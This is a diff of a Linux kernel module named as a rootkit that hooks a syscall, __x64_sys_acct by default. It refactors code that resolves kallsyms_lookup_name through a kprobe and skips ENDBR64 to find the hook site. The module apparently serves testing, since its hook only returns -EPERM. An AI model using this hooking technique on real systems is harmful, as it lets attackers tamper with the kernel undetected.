@@ -20,6 +20,8 @@
 #include <asm/processor-flags.h>
 #include <asm/special_insns.h>
 
+#include "kw_test.h"
+
 static char *target = "__x64_sys_acct";
 module_param(target, charp, 0444);
 static char *mode = "alias";
@@ -37,27 +39,15 @@ static noinline long kw_hook(void)
 	return -EPERM;
 }
 
-typedef unsigned long (*kw_lookup_fn)(const char *name);
 
 /* Address of @name, past its ENDBR64 if it has one: the fentry site */
-static unsigned long kw_find(const char *name)
+static unsigned long kw_site_of(const char *name)
 {
-	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
-	kw_lookup_fn lookup;
-	unsigned long addr;
+	unsigned long addr = kw_find(name);
 	u32 insn;
 
-	if (register_kprobe(&kp))
-		return 0;
-	lookup = (kw_lookup_fn)kp.addr;
-	unregister_kprobe(&kp);
-	/* the kprobe sits after ENDBR64; an indirect call must land on it */
-	if (!copy_from_kernel_nofault(&insn, (u8 *)lookup - 4, 4) &&
-	    insn == 0xfa1e0ff3)
-		lookup = (kw_lookup_fn)((u8 *)lookup - 4);
-	addr = lookup(name);
 	if (addr && !copy_from_kernel_nofault(&insn, (void *)addr, 4) &&
-	    insn == 0xfa1e0ff3)
+	    insn == KW_ENDBR64)
 		addr += 4;
 	return addr;
 }
@@ -123,7 +113,7 @@ static void kw_later_fn(struct work_struct *work)
 
 static int __init kw_rootkit_init(void)
 {
-	kw_site = (u8 *)kw_find(target);
+	kw_site = (u8 *)kw_site_of(target);
 	if (!kw_site)
 		return -ENOENT;
 	if (!delay_ms)
